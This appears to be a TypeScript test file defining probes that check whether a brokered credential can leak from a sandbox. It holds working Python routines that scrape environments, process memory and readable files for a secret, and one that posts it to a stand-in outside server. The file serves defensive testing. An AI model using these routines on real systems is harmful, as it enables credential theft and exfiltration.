import type { Probe } from '../../probe.ts';
import { attack } from '../attack.ts';
import { received, service, tell } from '../network/service.ts';
import { TOKEN } from './hosts.ts';
import { MISUSE } from './misuse.ts';

/** A key of the caller that is brokered for a host: the command may use it there, and has a placeholder. */
const BROKERED = {
  planted: `${TOKEN} in the environment of the caller, brokered for one host`,
  promise: 'broker',
  env: ({ canary }) => ({ [TOKEN]: canary }),
  brokered: { [TOKEN]: 'api.example.test' },
} satisfies Partial<Probe>;

const GIVES = 'a key that works anywhere, for as long as it is valid';

// What stands behind the name wherever it is written: environments, and copies in the memory of whoever read one.
const SEARCH = `
import os, re
pattern = re.compile(b'${TOKEN.slice(0, 7)}' + b'${TOKEN.slice(7)}=([^\\\\x00\\\\n]{8,200})')
def show(data):
    for found in set(pattern.findall(data)): print(found.decode('latin-1'))
for pid in filter(str.isdigit, os.listdir('/proc')):
    try: show(open(f'/proc/{pid}/environ', 'rb').read())
    except OSError: pass
    try:
        with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as memory:
            for line in maps:
                start, end = (int(one, 16) for one in line.split()[0].split('-'))
                if not ('[stack]' in line or '[heap]' in line) or end - start > 1 << 26: continue
                memory.seek(start)
                show(memory.read(end - start))
    except (OSError, ValueError, OverflowError): pass
`;

// The value is written backwards here, so that this text itself is not found.
const search = (canary: string) => `
import os, sys
value = '${[...canary].reverse().join('')}'
def look(where, data):
    if not data.count(value[::-1].encode()): return
    print('LEAKED', where, flush=True)
    os._exit(0)
def read(path, most=1 << 22):
    try:
        if os.path.isfile(path) or path.startswith('/proc/'):
            with open(path, 'rb') as file: look(path, file.read(most))
    except (OSError, ValueError): pass
def memory(pid):
    try:
        with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as held:
            for line in maps:
                start, end = (int(one, 16) for one in line.split()[0].split('-'))
                if 'r' not in line.split()[1] or end - start > 1 << 27: continue
                try:
                    held.seek(start)
                    look(f'/proc/{pid}/mem', held.read(end - start))
                except (OSError, ValueError, OverflowError): pass
    except (OSError, ValueError): pass
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('environ', 'cmdline', 'comm'): read(f'/proc/{pid}/{name}')
    try:
        for fd in os.listdir(f'/proc/{pid}/fd'):
            if os.path.isfile(f'/proc/{pid}/fd/{fd}'): read(f'/proc/{pid}/fd/{fd}')
    except OSError: pass
    if int(pid) != os.getpid(): memory(pid)
for top in ('/run', '/tmp', '/var/tmp', '/dev/shm', '/etc/ssl', os.getcwd(), os.path.expanduser('~')):
    for folder, _, names in os.walk(top):
        for name in names[:2000]: read(os.path.join(folder, name))
`;

export const BROKER: readonly Probe[] = [
  {
    id: 'broker/environment',
    title: 'the value of a brokered credential in the environment',
    gives: GIVES,
    ...BROKERED,
    tried: 'reading /proc/self/environ',
    reference: attack('T1552'),
    trial: () => ({ sh: "cat /proc/self/environ | tr '\\0' '\\n'" }),
  },
  {
    id: 'broker/processes',
    title: 'the value of a brokered credential in what other processes know',
    gives: GIVES,
    ...BROKERED,
    tried: 'searching environment and memory of every process that can be seen',
    reference: attack('T1003/007'),
    trial: () => ({ python: SEARCH }),
  },
  {
    id: 'broker/everywhere',
    title: 'the value of a brokered credential in all that can be read',
    gives: GIVES,
    ...BROKERED,
    tried: 'searching memory, environment and open files of all processes, and files that the command could read',
    reference: attack('T1552/001'),
    trial: ({ canary }) => ({ python: search(canary) }),
  },
  {
    id: 'broker/sent-elsewhere',
    title: 'sending a brokered credential to another host',
    gives: GIVES,
    ...BROKERED,
    tried: 'posting the variable to a server that stands in for one outside',
    reference: attack('T1041'),
    plant: service('AF_INET', 'SOCK_STREAM', '127.0.0.1'),
    trial: (scene) => ({
      python: tell(
        scene,
        'AF_INET',
        'SOCK_STREAM',
        '127.0.0.1',
        `b'POST / HTTP/1.0\\r\\n\\r\\n' + __import__('os').environ.get('${TOKEN}', '').encode()`,
      ),
    }),
    worked: (scene) => received(scene).includes(scene.canary),
  },
  ...MISUSE,
];
